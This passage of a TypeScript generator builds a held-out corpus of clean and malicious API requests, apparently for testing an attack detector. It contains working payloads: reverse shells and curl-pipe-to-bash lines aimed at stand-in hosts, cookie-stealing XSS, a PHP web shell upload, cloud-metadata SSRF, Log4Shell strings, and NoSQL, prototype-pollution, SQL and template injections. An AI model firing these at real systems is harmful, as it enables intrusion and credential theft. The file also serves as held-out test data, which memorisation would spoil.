    field: 'message',
    base: { service: 'notify.mobile' },
    qpath: '/v1/notify/preview',
    qparam: 'message',
    form: '/v1/notify',
  },
];

const PT_PAYLOADS = [
  '../../../../etc/passwd',
  '....//....//....//etc/passwd',
  '..\\..\\..\\..\\windows\\win.ini',
  '/var/www/app/../../../etc/shadow',
  '..%c0%af..%c0%af..%c0%afetc/passwd',
  '%2e%2e/%2e%2e/%2e%2e/etc/hosts',
  '../../../../proc/self/environ',
  '../../../../etc/passwd%00.png',
  '..;/..;/actuator/env',
  '../../../../../../root/.ssh/id_rsa',
  '..\\..\\..\\..\\inetpub\\wwwroot\\web.config',
  '../../.env',
  '/proc/self/cwd/config/database.yml',
  '..././..././..././etc/passwd',
  'C:\\Windows\\System32\\drivers\\etc\\hosts',
  '../../../../var/run/secrets/kubernetes.io/serviceaccount/token',
  '/../../../../../../../../etc/passwd',
  '/app/public/../../../../etc/group',
];

const PT_SINKS: Sink[] = [
  {
    site: CMS,
    path: '/api/themes/render',
    field: 'template',
    base: { article: 'art_8812' },
    qpath: '/api/themes/partials',
    qparam: 'name',
    form: '/api/themes/render',
  },
  {
    site: FIN,
    path: '/api/v2/ledger/exports/download',
    field: 'file',
    base: { format: 'csv' },
    qpath: '/api/v2/ledger/exports/download',
    qparam: 'file',
    form: '/api/v2/ledger/exports',
  },
  {
    site: HR,
    path: '/v1/attachments/fetch',
    field: 'path',
    base: { candidate_id: 'cand_p2k' },
    qpath: '/v1/attachments',
    qparam: 'path',
    form: '/v1/attachments',
  },
  {
    site: IOT,
    path: '/v1/firmware/files',
    field: 'image',
    base: { channel: 'stable' },
    qpath: '/v1/firmware/download',
    qparam: 'image',
    form: '/v1/firmware/files',
  },
  {
    site: GAME,
    path: '/v1/players/me/settings/locale',
    field: 'lang',
    base: {},
    qpath: '/v1/i18n/strings',
    qparam: 'lang',
    form: '/v1/players/me/settings',
  },
];

const SSRF_PAYLOADS = [
  'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  'http://[fd00:ec2::254]/latest/meta-data/',
  'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
  'http://169.254.169.254/metadata/instance?api-version=2021-02-01',
  'http://100.100.100.200/latest/meta-data/ram/security-credentials/',
  'http://2852039166/latest/meta-data/',
  'http://0xa9fea9fe/latest/user-data',
  'http://0251.0376.0251.0376/latest/meta-data/',
  'http://169.254.169.254.nip.io/latest/meta-data/',
  'http://[::ffff:a9fe:a9fe]/latest/meta-data/',
  'http://127.1:6379/',
  'http://0/',
  'http://[::]:22/',
  'http://localhost:2375/containers/json',
  'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2456%0D%0A%0A%0A%2A/1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%20%3E%26%20/dev/tcp/198.51.100.7/4444%200%3E%261%0A%0A%0A%0D%0A',
  'file:///etc/passwd',
  'dict://127.0.0.1:11211/stats',
  'http://7f000001.a9fea9fe.rbndr.us/latest/meta-data/',
  'http://make-169.254.169.254-rr.1u.ms/latest/meta-data/',
  'http://localtest.me:8080/admin',
  'http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ:8080/actuator/env',
  'http://status.wayfare.travel@169.254.169.254/latest/meta-data/',
  'https://x7k2.oast.fun/ssrf-probe',
  'http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets',
  'http://127.0.0.1:8500/v1/agent/self',
  'http://0x7f.0x0.0x0.0x1:8080/actuator/heapdump',
  'jar:http://198.51.100.7:8000/evil.jar!/',
  'ldap://127.0.0.1:389/dc=internal',
];

const SSRF_SINKS: Sink[] = [
  {
    site: DEV,
    path: '/api/v1/integrations/webhooks',
    field: 'url',
    base: { events: ['issue.created'], secret: 'whsec_x' },
    qpath: '/api/v1/integrations/webhooks/test',
    qparam: 'url',
    form: '/api/v1/integrations/webhooks',
  },
  {
    site: GAME,
    path: '/v1/players/me/avatar/import',
    field: 'avatar_url',
    base: {},
    qpath: '/v1/og/preview',
    qparam: 'url',
    form: '/v1/players/me/avatar',
  },
  {
    site: CMS,
    path: '/api/media/import',
    field: 'source_url',
    base: { alt: 'imported' },
    qpath: '/api/oembed',
    qparam: 'url',
    form: '/api/media/import',
  },
  {
    site: HR,
    path: '/v1/resumes/parse-url',
    field: 'resume_url',
    base: { job_id: 'job_7c1' },
    qpath: '/v1/resumes/parse-url',
    qparam: 'url',
    form: '/careers/apply',
  },
  {
    site: IOT,
    path: '/v1/firmware/releases',
    field: 'download_url',
    base: { version: '4.2.1', channel: 'beta' },
    qpath: '/v1/firmware/check',
    qparam: 'manifest',
    form: '/v1/firmware/releases',
  },
  {
    site: FIN,
    path: '/api/v2/bank-feeds',
    field: 'callback_url',
    base: { provider: 'open-banking' },
    qpath: '/api/v2/logos',
    qparam: 'src',
    form: '/api/v2/bank-feeds',
  },
];

const L4J_PAYLOADS = [
  '${jndi:ldap://x7k2.oast.fun/a}',
  '${jndi:${lower:l}${lower:d}a${lower:p}://x7k2.oast.fun/b}',
  '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.23:1389/Exploit}',
  '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//q1w2.interact.sh/c}',
  '${jndi:dns://${hostName}.${env:USER}.q1w2.interact.sh}',
  '${jndi:ldap://${sys:java.version}.x7k2.oast.fun/v}',
  '${${upper:j}ndi:${upper:l}dap://198.51.100.9/Basic/Command/Base64/Y3VybCBodHRwOi8vMTk4LjUxLjEwMC45L3NofGJhc2g=}',
  '${jndi:rmi://203.0.113.77:1099/obj}',
  '${${lower:jndi}:${lower:rmi}://q1w2.interact.sh/poc}',
  '${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x7k2.oast.fun/k8s}',
  '${j${::-n}di:ldaps://x7k2.oast.fun:636/s}',
  '${${base64:JHtqbmRpOmxkYXA6Ly94N2syLm9hc3QuZnVuL2J9}}',
  '${jndi:ldap://127.0.0.1#x7k2.oast.fun:1389/a}',
  '${${lower:${lower:jndi}}:${lower:ldap}://x7k2.oast.fun/n}',
  '${jndi:iiop://198.51.100.23:1050/x}',
  '${jndi:${env:NOPE:-l}dap://x7k2.oast.fun/${env:AWS_SECRET_ACCESS_KEY}}',
  "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x7k2.oast.fun/dt}",
];

const L4J_SINKS: Sink[] = [
  {
    site: TRV,
    path: '/v3/bookings/WF7QX2KD/special-requests',
    field: 'text',
    base: { category: 'other' },
    qpath: '/v3/search/places',
    qparam: 'q',
    form: '/checkout/payment',
  },
  {
    site: LAW,
    path: '/api/contracts/ctr_71/comments',
    field: 'body',
    base: { resolved: false },
    qpath: '/api/contracts',
    qparam: 'q',
    form: '/intake',
  },
  {
    site: GAME,
    path: '/v1/chat/channels/ch_lobby/messages',
    field: 'text',
    base: {},
    qpath: '/v1/players',
    qparam: 'q',
    form: '/support/appeal',
  },
  {
    site: DEV,
    path: '/api/v1/issues/48211/comments',
    field: 'text',
    base: {},
    qpath: '/api/v1/logs/search',
    qparam: 'q',
    form: '/login/sso',
  },
  {
    site: FIN,
    path: '/api/v2/expense-reports',
    field: 'title',
    base: { employee_id: 'emp_1' },
    qpath: '/api/v2/transactions',
    qparam: 'q',
    form: '/settings/notifications',
  },
];

const XSS_PAYLOADS = [
  '<script>alert(document.domain)</script>',
  '<img src=x onerror=alert(1)>',
  "<svg/onload=fetch('//x7k2.oast.fun/'+document.cookie)>",
  '"><iframe srcdoc="<script>parent.alert(1)</script>">',
  '<details open ontoggle=confirm(1)>',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
  '<a href="jav&#x09;ascript:alert(1)">click me</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<input autofocus onfocus=alert(1)>',
  "{{constructor.constructor('alert(1)')()}}",
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  "'-alert(1)-'",
  '</script><script>alert(1)</script>',
  '<img src="x" onerror="eval(atob(\'YWxlcnQoZG9jdW1lbnQuY29va2llKQ==\'))">',
  '<video><source onerror="alert(1)">',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<x contenteditable onblur=alert(1)>lose focus!</x>',
  '<body onpageshow=alert(1)>',
  'javascript:alert(document.cookie)',
  "<img src=1 oNeRrOr=import('//x7k2.oast.fun/x.js')>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
];

const XSS_SINKS: Sink[] = [
  {
    site: GAME,
    path: '/v1/chat/channels/ch_lobby/messages',
    field: 'text',
    base: {},
    qpath: '/v1/players',
    qparam: 'q',
    form: '/support/appeal',
  },
  {
    site: TRV,
    path: '/v3/hotels/htl_8812/reviews',
    field: 'title',
    base: { rating: 5, lang: 'en' },
    qpath: '/v3/search/hotels',
    qparam: 'q',
    form: '/checkout/payment',
  },
  {
    site: HR,
    path: '/v1/jobs/job_4k2/applications',
    field: 'cover_letter',
    base: { email: 'a@example.com' },
    qpath: '/careers/search',
    qparam: 'q',
    form: '/careers/apply',
  },
  {
    site: LAW,
    path: '/api/contracts/ctr_71/comments',
    field: 'body',
    base: {},
    qpath: '/api/contracts',
    qparam: 'q',
    form: '/intake',
  },
  {
    site: IOT,
    path: '/v1/devices/dev_1/name',
    field: 'name',
    base: {},
    qpath: '/v1/devices',
    qparam: 'q',
    form: '/account/wifi-setup',
  },
];

function nosqlAttacks(): void {
  const f = 'nosql';
  atkRaw(
    f,
    'plain',
    GAME,
    'POST',
    '/v1/auth/login',
    '{"email":{"$ne":null},"password":{"$ne":null}}',
    'application/json',
  );
  atkRaw(
    f,
    'plain',
    HR,
    'POST',
    '/v1/auth/login',
    '{"email":"admin@hirely.io","password":{"$regex":"^a"}}',
    'application/json',
  );
  atkRaw(
    f,
    'plain',
    FIN,
    'POST',
    '/api/v2/auth/token',
    '{"username":"finance-admin","password":{"$gt":""}}',
    'application/json',
  );
  atkRaw(
    f,
    'key',
    DEV,
    'POST',
    '/api/v1/issues/query',
    '{"$where":"sleep(5000) || true"}',
    'application/json',
  );
  atkRaw(
    f,
    'key',
    LAW,
    'POST',
    '/api/contracts/query',
    '{"$or":[{"owner":"me"},{"_id":{"$exists":true}}]}',
    'application/json',
  );
  atkRaw(
    f,
    'nested',
    TRV,
    'POST',
    '/v3/bookings/search',
    '{"filter":{"customer":{"email":{"$regex":".*"}},"status":{"$nin":[]}}}',
    'application/json',
  );
  atkRaw(
    f,
    'nested',
    IOT,
    'POST',
    '/v1/devices/query',
    '{"where":{"household_id":{"$ne":"hh_mine"}},"limit":1000}',
    'application/json',
  );
  atkRaw(f, 'array', GAME, 'POST', '/v1/players/batch', '{"ids":["pl_a1",{"$gt":""}]}', 'application/json');
  atkRaw(
    f,
    'array',
    CMS,
    'POST',
    '/api/articles/aggregate',
    '{"pipeline":[{"$match":{}},{"$lookup":{"from":"users","localField":"author","foreignField":"_id","as":"u"}},{"$project":{"u.password":1}}]}',
    'application/json',
  );
  atkRaw(
    f,
    'unicode-escape',
    FIN,
    'POST',
    '/api/v2/auth/token',
    '{"username":"admin","password":{"\\u0024ne":"x"}}',
    'application/json',
  );
  atkRaw(
    f,
    'unicode-escape',
    DEV,
    'POST',
    '/api/v1/flags/query',
    '{"\\u0024where":"this.key.length > 0 \\u0026\\u0026 sleep(3000)"}',
    'application/json',
  );
  atkJson(f, 'json-in-string', LAW, 'POST', '/api/contracts/search', {
    filter: '{"status":{"$ne":"archived"},"$where":"this.owner==this.owner"}',
  });
  atkJson(f, 'json-in-string', HR, 'POST', '/v1/reports/run', {
    query:
      '{"salary":{"$gt":0},"$expr":{"$function":{"body":"function(){sleep(4000);return true}","args":[],"lang":"js"}}}',
  });
  atkGet(f, 'base64', TRV, `/v3/bookings?${qsc({ cursor: b64('{"_id":{"$gt":""},"user":{"$ne":null}}') })}`);
  atkJson(f, 'base64', GAME, 'POST', '/v1/leaderboards/query', {
    q: b64('{"score":{"$gt":-1},"player.banned":{"$in":[true,false]}}'),
    encoding: 'base64',
  });
  atkRaw(
    f,
    'graphql-variable',
    GAME,
    'POST',
    '/graphql',
    '{"query":"query P($where: JSON!) { players(where: $where) { id email } }","variables":{"where":{"password":{"$regex":"^.*"}}}}',
    'application/json',
  );
  atkRaw(
    f,
    'graphql-variable',
    HR,
    'POST',
    '/graphql',
    '{"query":"query C($f: CandidateFilter) { candidates(filter: $f) { id ssn } }","variables":{"f":{"ownerId":{"$ne":"usr_me"}}}}',
    'application/json',
  );
  atkGet(f, 'double-encoded', IOT, '/v1/devices?owner%255B%2524ne%255D=usr_me&limit=500');
  atkGet(f, 'double-encoded', FIN, '/api/v2/invoices?customer_id%255B%2524gt%255D=&per_page=500');
  atkGet(f, 'query-param', GAME, '/v1/auth/login?username[$ne]=toto&password[$ne]=toto');
  atkGet(f, 'query-param', CMS, '/api/articles?author[$regex]=.*&status[$ne]=published');
  atkGet(f, 'query-param', TRV, `/v3/bookings?${qsc({ 'email[$exists]': 'true', 'passport[$ne]': '' })}`);
  atkGet(f, 'header', DEV, '/api/v1/issues', { 'x-filter': '{"$where":"sleep(3000)"}' });
  atkGet(f, 'cookie', GAME, '/v1/players/me', {
    cookie: `fl_token=${encodeURIComponent('j:{"$ne":null}')}; locale=en`,
  });
  atkGet(f, 'cookie', LAW, '/api/contracts', { cookie: `cb_sid=${encodeURIComponent('j:{"$gt":""}')}` });
  atkForm(f, 'form', HR, '/login', 'username=admin%40hirely.io&password%5B%24ne%5D=1');
  atkForm(f, 'form', FIN, '/login', 'email%5B%24regex%5D=.*&password%5B%24regex%5D=.*');
  atkMultipart(f, 'multipart', CMS, '/login', [
    { name: 'username', value: 'editor' },
    { name: 'password[$ne]', value: 'x' },
  ]);
  atkJson(f, 'embedded', TRV, 'POST', '/v3/hotels/htl_8812/reviews', {
    rating: 5,
    text: "Lovely stay'; return this.password.match(/^a/) && sleep(3000); var x='",
  });
  atkJson(f, 'embedded', GAME, 'POST', '/v1/reports', {
    target: 'pl_x',
    text: "he cheated 1'; while(true){}; var y='2",
  });
  atkRaw(
    f,
    'nested',
    CMS,
    'POST',
    '/_find',
    '{"selector":{"_id":{"$gt":null},"type":"user"},"fields":["name","password_scheme","derived_key"]}',
    'application/json',
  );
}

function protoAttacks(): void {
  const f = 'prototype-pollution';
  atkRaw(
    f,
    'key',
    GAME,
    'PUT',
    '/v1/players/me/settings',
    '{"__proto__":{"isAdmin":true}}',
    'application/json',
  );
  atkRaw(
    f,
    'key',
    HR,
    'PATCH',
    '/v1/me',
    '{"constructor":{"prototype":{"role":"admin"}}}',
    'application/merge-patch+json',
  );
  atkRaw(
    f,
    'key',
    DEV,
    'PATCH',
    '/api/v1/projects/web/settings',
    '{"__proto__":{"status":510}}',
    'application/merge-patch+json',
  );
  atkRaw(
    f,
    'nested',
    IOT,
    'POST',
    '/v1/automations',
    '{"name":"x","trigger":{"type":"time","at":"06:00"},"actions":[],"options":{"__proto__":{"shell":"node","NODE_OPTIONS":"--require /proc/self/environ","env":{"A":"console.log(require(\'child_process\').execSync(\'id\').toString())//"}}}}',
    'application/json',
  );
  atkRaw(
    f,
    'nested',
    CMS,
    'POST',
    '/api/articles/render',
    '{"article":{"id":"art_1"},"opts":{"__proto__":{"outputFunctionName":"_tmp1;global.process.mainModule.require(\'child_process\').exec(\'bash -c \\"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\\"\');var __tmp2"}}}',
    'application/json',
  );
  atkRaw(
    f,
    'nested',
    FIN,
    'POST',
    '/api/v2/reports/custom',
    '{"title":"x","layout":{"__proto__":{"sourceURL":"\\u000areturn process.mainModule.require(\'child_process\').execSync(\'id\')//"}}}',
    'application/json',
  );
  atkRaw(
    f,
    'array',
    TRV,
    'POST',
    '/v3/itineraries',
    '{"travelers":[{"first_name":"A","last_name":"B"},{"__proto__":{"admin":true}}],"segments":[]}',
    'application/json',
  );
  atkRaw(
    f,
    'array',
    GAME,
    'POST',
    '/v1/tournaments/registrations',
    '{"roster":[{"constructor":{"prototype":{"json spaces":10}}}]}',
    'application/json',
  );
  atkRaw(
    f,
    'unicode-escape',
    LAW,
    'PUT',
    '/api/contracts/ctr_71/metadata',
    '{"\\u005f\\u005fproto\\u005f\\u005f":{"isAdmin":true}}',
    'application/json',
  );
  atkRaw(
    f,
    'unicode-escape',
    DEV,
    'PUT',
    '/api/v1/projects/web/flags/x',
    '{"rules":[],"\\u0063onstructor":{"\\u0070rototype":{"exposedHeaders":["x-polluted"]}}}',
    'application/json',
  );
  atkJson(f, 'json-in-string', GAME, 'PUT', '/v1/players/me/settings', {
    ui_state: '{"__proto__":{"isModerator":true}}',
  });
  atkJson(f, 'json-in-string', HR, 'POST', '/v1/integrations/ats-sync', {
    payload: '{"candidate":{"constructor":{"prototype":{"allowDots":true}}}}',
  });
  atkJson(f, 'base64', IOT, 'POST', '/v1/hubs/hub_1/restore', {
    backup: b64('{"version":3,"__proto__":{"polluted":"yes"}}'),
    encoding: 'base64',
  });
  atkGet(
    f,
    'base64',
    TRV,
    `/v3/oauth/callback?${qsc({ code: alnum(20), state: b64('{"__proto__":{"redirect":"https://x7k2.oast.fun"}}') })}`,
  );
  atkRaw(
    f,
    'graphql-variable',
    CMS,
    'POST',
    '/graphql',
    '{"query":"mutation U($input: JSON!) { updateSettings(input: $input) { ok } }","variables":{"input":{"__proto__":{"isAdmin":true}}}}',
    'application/json',
  );
  atkRaw(
    f,
    'graphql-variable',
    FIN,
    'POST',
    '/graphql',
    '{"query":"mutation P($p: JSON) { setPrefs(prefs: $p) }","variables":{"p":{"constructor":{"prototype":{"block":{"type":"Text","line":"process.mainModule.require(\'child_process\').execSync(\'id\')"}}}}}}',
    'application/json',
  );
  atkGet(f, 'double-encoded', GAME, '/v1/players/me?__proto__%255BisAdmin%255D=true');
  atkGet(f, 'double-encoded', LAW, '/api/contracts?constructor%255Bprototype%255D%255Bqs%255D=1');
  atkGet(f, 'query-param', DEV, '/api/v1/issues?__proto__[status]=510');
  atkGet(f, 'query-param', HR, '/v1/candidates?constructor[prototype][isAdmin]=true&q=x');
  atkGet(f, 'query-param', CMS, '/api/articles?__proto__.polluted=1&per_page=1');
  atkGet(f, 'header', FIN, '/api/v2/invoices', {
    'x-feature-flags': '{"__proto__":{"beta":true,"admin":true}}',
  });
  atkGet(f, 'cookie', GAME, '/v1/players/me', {
    cookie: `fl_token=${alnum(32)}; prefs=${encodeURIComponent('j:{"__proto__":{"isAdmin":true}}')}`,
  });
  atkForm(
    f,
    'form',
    IOT,
    '/account/wifi-setup',
    '__proto__%5Bshell%5D=%2Fproc%2Fself%2Fexe&__proto__%5Bargv0%5D=console.log(require(%22child_process%22).execSync(%22id%22).toString())%2F%2F&__proto__%5BNODE_OPTIONS%5D=--require+%2Fproc%2Fself%2Fcmdline',
  );
  atkForm(
    f,
    'form',
    TRV,
    '/checkout/payment',
    'booking=WF1&constructor%5Bprototype%5D%5BparameterLimit%5D=1',
  );
  atkMultipart(f, 'multipart', CMS, '/api/media', [
    {
      name: '__proto__[outputFunctionName]',
      value: "x;process.mainModule.require('child_process').execSync('id');x",
    },
    { name: 'file', filename: 'a.png', type: 'image/png', value: pngBytes() },
  ]);
  atkMultipart(f, 'multipart', LAW, '/api/clauses/import', [
    {
      name: 'file',
      filename: 'clauses.json',
      type: 'application/json',
      value: '[{"heading":"x","text":"y","__proto__":{"isAdmin":true}}]',
    },
  ]);
  atkRaw(
    f,
    'plain',
    HR,
    'POST',
    '/v1/me/preferences/set',
    '{"path":"__proto__.isAdmin","value":true}',
    'application/json',
  );
  atkRaw(
    f,
    'plain',
    DEV,
    'PATCH',
    '/api/v1/projects/web',
    '[{"op":"add","path":"/__proto__/polluted","value":"yes"}]',
    'application/json-patch+json',
  );
  atkRaw(
    f,
    'embedded',
    IOT,
    'PUT',
    '/v1/devices/dev_1/config',
    '{"type":"thermostat","config":{"mode":"heat","setpoint_c":21,"schedule":[{"from":"06:00","to":"22:00","setpoint_c":21}],"display":{"units":"C","__proto__":{"polluted":"yes","toString":"x"}}},"firmware_channel":"stable"}',
    'application/json',
  );
}

/** Hand-written attacks that do not fit the generic sink model (uploads, paths, multi-header probes). */
function extraAttacks(): void {
  atkMultipart('xss', 'multipart', CMS, '/wp-json/wp/v2/media', [
    {
      name: 'file',
      filename: 'logo.svg',
      type: 'image/svg+xml',
      value:
        '<?xml version="1.0" standalone="no"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><rect width="100" height="100" fill="#0b3d91"/><script type="text/javascript">fetch("https://x7k2.oast.fun/c?"+document.cookie)</script></svg>',
    },
  ]);
  atkMultipart('xss', 'multipart', GAME, '/v1/clans/clan_1/emblem', [
    {
      name: 'emblem',
      filename: 'clan.svg',
      type: 'image/svg+xml',
      value:
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><circle r="40" cx="50" cy="50"/></svg>',
    },
  ]);
  atkMultipart('xss', 'multipart', HR, '/v1/candidates/cand_x/attachments', [
    {
      name: 'file',
      filename: 'portfolio.html',
      type: 'text/html',
      value:
        '<!doctype html><html><body><h1>My portfolio</h1><img src=x onerror="location=\'https://x7k2.oast.fun/?c=\'+document.cookie"></body></html>',
    },
  ]);
  atkMultipart('xss', 'multipart', TRV, '/v3/hotels/htl_8812/reviews/photos', [
    { name: 'photo', filename: '"><img src=x onerror=alert(1)>.png', type: 'image/png', value: pngBytes() },
    { name: 'caption', value: 'pool' },
  ]);
  atkGet(
    'xss',
    'query-param',
    CMS,
    `/search?${qs({ q: '"><script src=https://x7k2.oast.fun/x.js></script>' })}`,
  );
  atkGet('xss', 'query-param', LAW, '/api/contracts?redirect=javascript%3Aalert(document.cookie)');

  atkMultipart('path-traversal', 'multipart', CMS, '/api/media', [
    {
      name: 'file',
      filename: '../../../../var/www/html/shell.php',
      type: 'image/png',
      value: '<?php system($_GET["c"]); ?>',
    },
  ]);
  atkMultipart('path-traversal', 'multipart', HR, '/v1/resumes/parse', [
    {
      name: 'file',
      filename: '..\\..\\..\\inetpub\\wwwroot\\cmd.aspx',
      type: 'application/pdf',
      value: pdfText(['resume']),
    },
  ]);
  atkGet(
    'path-traversal',
    'double-encoded',
    DEV,
    '/api/v1/releases/web%403.14.2/files/%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd',
  );
  atkGet('path-traversal', 'double-encoded', FIN, '/static/%252e%252e/%252e%252e/%252e%252e/etc/shadow');
  atkGet('path-traversal', 'query-param', IOT, '/v1/hubs/hub_1/logs?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd');

  atkMultipart('command', 'multipart', CMS, '/api/media', [
    {
      name: 'file',
      filename: 'exploit.mvg',
      type: 'image/png',
      value:
        "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1/image.jpg\"|curl \"http://x7k2.oast.fun/$(id)')'\npop graphic-context\n",
    },
  ]);
  atkMultipart('command', 'multipart', HR, '/v1/resumes/parse', [
    {
      name: 'file',
      filename: 'cv$(curl x7k2.oast.fun|sh).pdf',
      type: 'application/pdf',
      value: pdfText(['CV']),
    },
  ]);
  atkJson('command', 'nested', DEV, 'POST', '/api/v1/integrations/sftp', {
    host: 'sftp.example.com',
    options: { post_command: 'rm -f "$FILE"; curl -s http://198.51.100.7/i | bash' },
  });
  atkJson('command', 'plain', IOT, 'POST', '/v1/automations', {
    name: 'x',
    actions: [
      {
        service: 'shell_command.run',
        data: { cmd: 'sqlite3 /config/home.db ".backup /tmp/x"; nc 198.51.100.7 4444 -e /bin/sh' },
      },
    ],
  });

  atkMultipart('ssrf', 'multipart', IOT, '/v1/floorplans', [
    {
      name: 'file',
      filename: 'plan.svg',
      type: 'image/svg+xml',
      value:
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200"><image xlink:href="http://169.254.169.254/latest/meta-data/iam/security-credentials/" width="200" height="200"/></svg>',
    },
  ]);
  atkMultipart('ssrf', 'multipart', FIN, '/api/v2/invoices/import', [
    {
      name: 'file',
      filename: 'invoice.html',
      type: 'text/html',
      value:
        '<html><body><h1>Invoice</h1><iframe src="file:///etc/passwd"></iframe><img src="http://[::ffff:127.0.0.1]:8080/admin"></body></html>',
    },
  ]);
  atkJson('ssrf', 'plain', LAW, 'POST', '/hooks/docusign/config', {
    callback_url: 'http://169.254.169.254/latest/api/token',
    events: ['envelope-completed'],
  });
  atkGet(
    'ssrf',
    'query-param',
    CMS,
    `/api/oembed?${qsc({ url: 'http://0177.0.0.1:9200/_cat/indices', maxwidth: 600 })}`,
  );

  atkGet('log4shell', 'header', TRV, '/v3/search/flights?from=LHR&to=JFK', {
    'user-agent': '${jndi:ldap://x7k2.oast.fun/ua}',
    'x-api-version': '${jndi:ldap://x7k2.oast.fun/av}',
    referer: '${jndi:ldap://x7k2.oast.fun/ref}',
    'x-forwarded-for': '${jndi:ldap://x7k2.oast.fun/xff}',
  });
  atkGet('log4shell', 'header', LAW, '/api/contracts', {
    'accept-language': '${jndi:ldap://${hostName}.x7k2.oast.fun/al}',
  });
  atkForm(
    'log4shell',
    'form',
    FIN,
    '/oauth/token',
    qs({ grant_type: 'password', username: '${jndi:ldap://x7k2.oast.fun/u}', password: 'x' }),
  );
  atkMultipart('log4shell', 'multipart', HR, '/v1/resumes/parse', [
    {
      name: 'file',
      filename: '${jndi:ldap://x7k2.oast.fun/fn}.pdf',
      type: 'application/pdf',
      value: pdfText(['resume']),
    },
  ]);

  atkGet('sql', 'query-param', CMS, "/jsonapi/node/article?filter[title]=x')%20OR%201=1--&sort=-created");
  atkGet('sql', 'query-param', GAME, '/v1/leaderboards/ranked-s14?order=score,(select%20sleep(5))&limit=10');
  atkGet(
    'sql',
    'graphql-variable',
    FIN,
    `/graphql?${qsc({ query: 'query T($q: String) { transactions(search: $q) { id } }', variables: JSON.stringify({ q: "x' UNION SELECT username||':'||password FROM admins--" }) })}`,
  );
  atkJson('sql', 'nested', DEV, 'POST', '/api/v1/logs/query', {
    query: 'level:error',
    range: { from: "now-1h' AND 1=(SELECT 1 FROM pg_sleep(6))--", to: 'now' },
  });

  atkJson('template', 'embedded', HR, 'POST', '/v1/email-templates', {
    name: 'Offer letter',
    subject: 'Your offer from Hirely',
    body: 'Dear {{ candidate.first_name }},\n\nWe are thrilled to offer you the role. {{ self.__init__.__globals__.__builtins__.__import__("os").popen("id").read() }}\n\nBest,\nPeople Team',
  });
  atkJson('template', 'plain', CMS, 'POST', '/api/newsletters/preview', {
    intro: '${T(java.lang.Runtime).getRuntime().exec("curl x7k2.oast.fun")}',
  });
  atkGet('template', 'query-param', GAME, `/v1/share/card?${qsc({ title: '{{7*7}}', name: '<%= 7*7 %>' })}`);
}

function buildAttacks(): void {
  runFamily('sql', SQL_PAYLOADS, SQL_SINKS);
  nosqlAttacks();
  runFamily('template', TPL_PAYLOADS, TPL_SINKS);
  runFamily('command', CMD_PAYLOADS, CMD_SINKS);
  runFamily('path-traversal', PT_PAYLOADS, PT_SINKS);
  runFamily('ssrf', SSRF_PAYLOADS, SSRF_SINKS);
  protoAttacks();
  runFamily('log4shell', L4J_PAYLOADS, L4J_SINKS);
  runFamily('xss', XSS_PAYLOADS, XSS_SINKS);
  extraAttacks();
}

hrClean();
finClean();
iotClean();
cmsClean();
travelClean();
devClean();
lawClean();
gameClean();
extraClean();
buildAttacks();

/** Blind held-out corpus 9: realistic clean API traffic and realistic API attacks. */
export const heldout9: { readonly clean: CorpusRequest[]; readonly attacks: CorpusRequest[] } = {
  clean,
  attacks,
};

if (import.meta.main) {
  const dir = import.meta.dirname;
  writeFileSync(join(dir, 'clean-heldout9.json'), JSON.stringify(clean, null, 2) + '\n');
  writeFileSync(join(dir, 'attacks-heldout9.json'), JSON.stringify(attacks, null, 2) + '\n');
  const count = (xs: CorpusRequest[], key: (r: CorpusRequest) => string): Record<string, number> => {
    const out: Record<string, number> = {};
    for (const r of xs) out[key(r)] = (out[key(r)] ?? 0) + 1;
    return out;
  };
  console.log(
    `clean: ${clean.length}`,
    count(clean, (r) => r.kind),
  );
  console.log(
    `attacks: ${attacks.length}`,
    count(attacks, (r) => r.family ?? '?'),
  );
  console.log(
    'techniques:',
    count(attacks, (r) => r.technique ?? '?'),
  );
}
